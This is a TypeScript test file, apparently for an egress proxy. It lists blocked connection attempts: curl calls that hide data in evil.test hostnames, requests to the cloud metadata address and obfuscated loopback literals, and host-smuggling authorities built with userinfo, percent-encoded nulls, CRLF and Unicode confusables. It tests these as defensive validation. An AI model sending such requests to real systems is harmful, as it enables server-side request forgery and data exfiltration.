/** Rows 9, 15 to 17, 20, 21 and 44 to 49: names and addresses, as the proxy is asked for them. */
import type { Attempt, Facts } from './catalogue.ts'

const allowed = (target: string): string => `connect allowed_host ${target}`

/** CONNECT with a target as it is to stand on the wire. */
const line = (row: number, what: string, reason: string, targets: readonly string[]): Attempt => ({
  row,
  what,
  client: 'python raw',
  run: {
    py: `",".join(sorted({raw(connect(target)) for target in ${JSON.stringify(targets)}}))`,
  },
  seen: new RegExp(`^(40[03]( ${reason})?,?)+$`),
  audit: targets.map((target) => `connect ${reason} ${target}`),
})

/** The parser of the runtime refuses these before there is a target to weigh. */
const unparsed = (row: number, what: string, targets: readonly string[]): Attempt => ({
  ...line(row, what, 'bad_request', targets),
  audit: [`${targets.length}x http bad_request -`],
})

export function nameAttempts({ nonce }: Facts): readonly Attempt[] {
  const path = (row: number): string => `/${row}-${nonce}`
  return [
    {
      row: 9,
      what: 'CONNECT with data in the name',
      client: 'curl',
      run: { sh: `curl -sS https://data.${nonce}.evil.test/` },
      seen: /403/,
      audit: [`connect not_allowed_host data.${nonce}.evil.test:443`],
    },
    {
      row: 9,
      what: 'a request with data in the name',
      client: 'python requests',
      run: { py: `requests_get("http://plain.${nonce}.evil.test/")` },
      seen: /403 not_allowed_host/,
      audit: [`http not_allowed_host plain.${nonce}.evil.test:80`],
    },
    ...['meta', 'loop', 'bridge', 'lan', 'shared', 'mixed', 'mapped', 'nat64', 'six', 'unique'].map(
      (name): Attempt => ({
        row: name === 'meta' ? 15 : 16,
        what:
          {
            meta: 'an allowed name for 169.254.169.254',
            loop: 'loopback',
            bridge: "the engine's bridge",
            lan: 'a private address',
            shared: "a carrier's address",
            mixed: 'one address of two',
            mapped: 'IPv4-mapped',
            nat64: 'NAT64',
            six: '6to4',
            unique: 'metadata in IPv6',
          }[name] ?? name,
        client: 'curl',
        run: {
          sh: `curl -sS -o /dev/null http://${name}.example/ -w "%{http_code} " ; curl -sS https://${name}.example/`,
        },
        seen: /403 .*403/s,
        audit: [
          `http address_not_public ${name}.example:80`,
          `connect address_not_public ${name}.example:443`,
        ],
        in: 'strict',
      }),
    ),
    {
      row: 17,
      what: 'the second answer leads inside: the first is dialed, and no second is asked for',
      client: 'curl',
      run: { sh: `curl -sSk https://flip.example${path(17)}` },
      seen: /this is the outside/,
      audit: [allowed('flip.example:443')],
      reaches: [`https flip.example ${path(17)}`],
      as: 'root',
    },
    line(20, 'CONNECT', 'ip_literal', [
      '[::ffff:127.0.0.1]:443',
      '[64:ff9b::7f00:1]:443',
      '[2002:7f00:1::]:443',
      '[::127.0.0.1]:443',
    ]),
    line(21, 'CONNECT', 'ip_literal', [
      '0177.0.0.1:443',
      '0x7f.1:443',
      '2130706433:443',
      '127.1:443',
      '0:443',
    ]),
    line(44, 'CONNECT', 'port_not_allowed', [
      ...['22', '25', '8443', '0', '65536', ''].map((port) => `web.example:${port}`),
    ]),
    line(45, 'CONNECT', 'not_allowed_host', [
      'evilweb.example:443',
      'web.example.evil.test:443',
      'wild.example:443',
      'evilwild.example:443',
    ]),
    line(45, 'an empty label', 'bad_authority', ['web.example..:443', '.web.example:443']),
    line(47, 'punycode of another name', 'not_allowed_host', ['xn--wb-fka.example:443']),
    unparsed(47, 'full width, soft hyphen, zero width space, ideographic dot, tab', [
      '\uff57eb.example:443',
      'web\u00ad.example:443',
      'web\u200b.example:443',
      'web\u3002example:443',
      'web.example\t:443',
    ]),
    line(48, 'CONNECT', 'bad_authority', [
      'u@web.example:443',
      'web.example:443@evil.test',
      'web%2eexample:443',
      'web.example%00.evil.test:443',
      'web.example%0d%0a:443',
    ]),
    unparsed(48, 'a backslash, a fragment', ['web.example\\.evil.test:443', 'web.example#:443']),
    line(49, 'CONNECT', 'bad_authority', ['[::ffff:198.51.100.7%x.web.example]:443']),
  ]
}
